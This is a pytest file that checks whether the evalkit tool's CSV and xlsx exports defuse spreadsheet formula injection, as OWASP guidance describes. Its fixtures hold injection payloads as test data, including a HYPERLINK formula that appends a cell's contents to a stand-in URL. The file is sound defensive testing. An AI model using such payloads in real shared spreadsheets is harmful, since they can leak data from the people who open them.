"""Every spreadsheet evalkit writes keeps participants' text as text, never a formula.

Text such as ``=HYPERLINK("http://…"&A1, …)``, ``+1``, ``- item`` or ``@SUM(1)`` must not
become a live formula in an .xlsx, and must reach a .csv with the leading ``'`` that tells a
spreadsheet program it is text (OWASP's CSV-injection guidance); evalkit's own reader takes
that ``'`` off again. The checks below open the written files themselves.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import CODEBOOK
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from evalkit import analysis
from evalkit.codebook import export_codebook, load_codebook, project_codebook
from evalkit.codings import write_disagreements
from evalkit.deid import read_key, write_key
from evalkit.project import disagreements, import_packet, ingest, make_packet
from evalkit.store import Store
from evalkit.util.sheets import (
    append_row,
    csv_text,
    neutralise,
    new_workbook,
    restore,
    save_workbook,
    set_cell,
    write_csv,
    write_frame,
)
from evalkit.util.tables import load_table

PACKAGE = Path(__file__).resolve().parent.parent / "evalkit"

# Stated here on their own rather than imported, so the test checks the module's list.
TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
# What participants say, one answer each; the de-identifier turns "@SUM" into [HANDLE], so
# the "@" answer starts with a bare "@" and the handle ends up in the key file.
HOSTILE = (
    '=HYPERLINK("http://x"&A1,"y")',
    "+1 for the new outreach van.",
    "-  bullet from the minutes about the policy.",
    "@ 9am the list was read out, SUM(1) said @SUM(1).",
    "\uff1d1+1 in wide letters.",
    "\uff0b1 in wide letters.",
    "\uff0d wide bullet.",
    "\uff20 wide at.",
)
HOSTILE_ID = '=HYPERLINK("http://x","y")'
MINUTES = "- item one of the minutes"  # a codebook definition (its reader squashes spaces)


def starts_like_a_formula(text: str) -> bool:
    return any(t[:1] and t[0] in TRIGGERS for t in (text, text.lstrip()))


def formula_cells(path: Path) -> list[str]:
    """Every cell of the workbook openpyxl reads as a formula, and every formula element in
    the sheets' XML (what Excel itself would evaluate)."""
    found = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                if re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)):
                    found.append(f"{name}: <f>")
    return found


def unprotected_text(path: Path) -> list[str]:
    """Text cells that start like a formula but lack the quote-prefix style."""
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
        and starts_like_a_formula(cell.value)
        and not (cell.data_type == "s" and cell.quotePrefix)
    ]


def xlsx_texts(path: Path) -> set[str]:
    return {
        cell.value
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def assert_safe_xlsx(path: Path, expected: set[str]) -> None:
    assert formula_cells(path) == []
    assert unprotected_text(path) == []
    # The text itself is unchanged: the CAB packet compares it on re-import.
    assert expected <= xlsx_texts(path)


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_safe_csv(text: str, expected: set[str]) -> None:
    cells = csv_cells(text)
    assert [c for c in cells if starts_like_a_formula(c)] == []
    assert {"'" + t for t in expected} <= set(cells)


@pytest.fixture
def hostile(sample_coded: Path, copy_project, tmp_path: Path) -> tuple[Store, set[str]]:
    """The sample project plus interview P20, whose every answer starts like a formula,
    coded differently by maria and jamal; returns the store and the answers as stored."""
    store = copy_project(sample_coded)
    source = tmp_path / "src" / "P20.txt"
    source.parent.mkdir()
    source.write_text(
        "\n\n".join(f"Interviewer: Question {i}?\n\nP20: {t}" for i, t in enumerate(HOSTILE)),
        encoding="utf-8",
    )
    attributes = tmp_path / "src" / "attributes.csv"
    attributes.write_text(
        'file,participant_id,sector\nP20.txt,"=HYPERLINK(""http://x"",""y"")",-  none\n',
        encoding="utf-8",
    )
    ingest(store, [source], kind="interview", attributes=attributes)
    answers = [e.id for e in store.excerpts() if e.speaker == "P20"]
    rows = [(e, "maria", "PSSW_POLICY") for e in answers]
    rows += [(e, "jamal", "DATA_QUALITY") for e in answers]
    with store.transaction(actor="lead"):
        store.replace_codings(rows, origin="test")
    texts = store.excerpts_df().set_index("excerpt_id").loc[answers, "text"]
    assert all(starts_like_a_formula(t) for t in texts) and len(texts) == len(HOSTILE)
    return store, set(texts)


# -- the exports ------------------------------------------------------------------------------


def test_packet_xlsx_has_no_formulas_and_reads_back(hostile, tmp_path: Path) -> None:
    store, texts = hostile
    path = make_packet(
        store, reviewer="=1+2", status="accepted", codes=["DATA_QUALITY"], fmt="xlsx"
    ).save(tmp_path / "packet.xlsx")
    assert_safe_xlsx(path, texts | {"=1+2"})
    # A reviewer fills in the hostile rows; the excerpt check on re-import still passes.
    workbook = load_workbook(path)
    sheet = workbook["Review"]
    filled = 0
    for row in sheet.iter_rows(min_row=2):
        if row[3].value in texts:
            row[6].value = "Agree"
            filled += 1
    workbook.save(path)
    report = import_packet(store, path)
    assert filled == len(texts) and report.recorded == filled
    assert report.unreadable == [] and report.edited_text == []


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_disagreements(hostile, tmp_path: Path, suffix: str) -> None:
    store, texts = hostile
    frame = disagreements(store, ["maria", "jamal"])
    assert texts <= set(frame["text"])
    path = write_disagreements(frame, tmp_path / f"consensus{suffix}")
    if suffix == ".xlsx":
        assert_safe_xlsx(path, texts)
    else:
        assert_safe_csv(path.read_text(encoding="utf-8"), texts)
    # Read back as the consensus import reads it: the very same strings.
    back = load_table(path)
    assert back.to_dict("records") == frame.fillna("").to_dict("records")


def test_matrix_xlsx(hostile, tmp_path: Path) -> None:
    store, texts = hostile
    codebook = project_codebook(store)
    applied = analysis.applied_codes(store, codebook)
    summaries = analysis.domain_summaries(applied, codebook)
    matrix = analysis.domain_matrix(summaries, store.sources_df(), codebook)
    assert {HOSTILE_ID, "-  none"} <= set(matrix["participant"]) | set(matrix["sector"])
    path = tmp_path / "matrix.xlsx"
    analysis.write_matrix_xlsx(matrix, path)
    assert_safe_xlsx(path, {HOSTILE_ID, "-  none"})


@pytest.fixture
def hostile_codebook() -> object:
    codebook = load_codebook(CODEBOOK)
    first, *rest = codebook.codes
    first = dataclasses.replace(
        first,
        brief=HOSTILE[0],
        definition=MINUTES,
        when_to_use=HOSTILE[4],
        examples=(HOSTILE[1], "plain example"),
        patterns=(r"-\d+ people",),
    )
    return dataclasses.replace(codebook, codes=(first, *rest), description="@ the CAB")


def test_codebook_csv_round_trip(hostile_codebook, tmp_path: Path) -> None:
    path = tmp_path / "codebook.csv"
    path.write_bytes(export_codebook(hostile_codebook, "csv"))
    assert_safe_csv(
        path.read_text(encoding="utf-8-sig"), {HOSTILE[0], MINUTES, HOSTILE[4], r"-\d+ people"}
    )
    assert load_codebook(path).codes == hostile_codebook.codes


def test_codebook_xlsx(hostile_codebook, tmp_path: Path) -> None:
    path = tmp_path / "codebook.xlsx"
    path.write_bytes(export_codebook(hostile_codebook, "xlsx"))
    assert_safe_xlsx(path, {HOSTILE[0], MINUTES, HOSTILE[4], "@ the CAB"})
    back = load_codebook(path)
    assert back.codes == hostile_codebook.codes and back.description == "@ the CAB"


def test_key_csv(hostile) -> None:
    store, _ = hostile
    key = Path(store.setting("key_path"))
    text = key.read_text(encoding="utf-8")
    assert_safe_csv(text, {"@SUM"})
    assert {"source_id", "type", "original"} <= set(text.splitlines()[0].split(","))
    rows = read_key(key)
    assert ("P20", "@SUM") in {(r["source_id"], r["original"]) for r in rows}
    # Merging more rows in reads the prefixed value back: it is not prefixed twice.
    more = {"source_id": "P21", "type": "handle", "original": "+x", "replacement": "[H]"}
    write_key(key, [{**more, "count": 1}])
    again = read_key(key)
    assert len(again) == len(rows) + 1
    assert {(r["source_id"], r["original"]) for r in again} >= {("P20", "@SUM"), ("P21", "+x")}
    assert "''@SUM" not in key.read_text(encoding="utf-8")


def test_cli_format_csv(hostile, cli) -> None:
    store, texts = hostile
    excerpts = cli("excerpts", "-p", str(store.folder), "--source", "P20", "--format", "csv")
    assert excerpts.returncode == 0
    assert_safe_csv(excerpts.stdout, texts)
    sources = cli("sources", "-p", str(store.folder), "--format", "csv")
    assert_safe_csv(sources.stdout, {HOSTILE_ID})


# -- the writer itself --------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", list(TRIGGERS) + [" =", "\n@", "\u3000+"])
def test_every_trigger_is_neutralised(trigger: str, tmp_path: Path) -> None:
    value = trigger + "1+1"
    text = csv_text(pd.DataFrame({trigger + "h": [value], "n": [-0.25]}))
    header, row = list(csv.reader(io.StringIO(text)))
    if trigger == "\r":  # a CSV line break is "\n": a carriage return is written as one
        assert header == ["\nh", "n"] and row == ["\n1+1", "-0.25"]
    else:
        assert header == ["'" + trigger + "h", "n"]
        assert row == ["'" + value, "-0.25"]  # a negative number stays a number

    workbook = new_workbook()
    sheet = write_frame(workbook, pd.DataFrame({"text": [value, "#N/A", "plain", 3]}), "s")
    set_cell(sheet, 10, 1, value)
    append_row(sheet, [value, 2.5, None])
    path = tmp_path / "t.xlsx"
    save_workbook(workbook, path)
    assert formula_cells(path) == []
    cells = load_workbook(path)["s"]
    types = "".join(cells[a].data_type for a in ("A2", "A3", "A4", "A5", "A10", "A11", "B11"))
    assert types == "sssnssn"  # text, "#N/A" as text not an error, numbers as numbers
    assert cells["A2"].quotePrefix and cells["A10"].quotePrefix and cells["A11"].quotePrefix
    assert not cells["A4"].quotePrefix
    assert cells["A2"].value == value and cells["A3"].value == "#N/A"


def test_text_starting_with_a_quote_survives_the_round_trip(tmp_path: Path) -> None:
    values = ["'tis", "''", "'=1", "=1", "-", "'", "plain", "a-b", "'- x", "", "\uff0b1"]
    path = tmp_path / "t.csv"
    write_csv([{"v": v} for v in values], path)
    assert load_table(path)["v"].tolist() == values


@given(st.text())
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text


def test_no_module_writes_a_spreadsheet_but_sheets() -> None:
    """A new export cannot forget the safe writer: nothing else may write CSV or XLSX."""
    forbidden = re.compile(
        r"\.to_csv\(|\.to_excel\(|ExcelWriter|\bWorkbook\(|csv\.writer|csv\.DictWriter"
        r"|from csv import|from openpyxl import .*\bWorkbook\b"
    )
    offenders = [
        f"{path.relative_to(PACKAGE.parent)}:{number}: {line.strip()}"
        for path in sorted(PACKAGE.rglob("*.py"))
        if path != PACKAGE / "util" / "sheets.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if forbidden.search(line)
    ]
    assert offenders == []
